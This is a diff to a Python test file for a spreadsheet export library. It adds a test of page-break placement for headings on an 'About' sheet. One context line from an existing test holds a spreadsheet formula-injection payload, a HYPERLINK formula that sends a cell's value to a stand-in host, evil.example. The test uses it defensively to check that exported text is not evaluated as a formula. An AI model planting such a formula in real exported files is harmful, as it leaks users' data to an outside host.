@@ -1112,3 +1112,21 @@ def test_libreoffice_reads_hostile_text_as_text(briefs, tmp_path) -> None:
     assert '=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")' in text
     assert "@SUM(1)" in text and "=1+1" in text and "#REF!" in text
     assert "Click" not in text.replace('""Click""', "")
+
+
+def test_a_heading_near_the_foot_of_a_page_starts_the_next() -> None:
+    """The About sheet counts the height of its rows; a heading with no room for the lines
+    after it on the page starts the next page (a manual page break before it)."""
+    from openpyxl import Workbook
+
+    from cwlib.export.brief import _About
+
+    about = _About(Workbook(), "en", [])
+    while about.used + 5 * 15 < about.page_pt:  # fill the page to four lines from its foot
+        about.line("label", "value")
+    assert not about.ws.row_breaks.brk
+    about.heading("about.caveats")
+    assert [b.id for b in about.ws.row_breaks.brk] == [about.row - 2]
+    assert about.ws.cell(about.row - 1, 1).value == "Caveats"
+    about.line("1.", "a caveat")  # the heading and its first line share the new page
+    assert about.used < 3 * 20
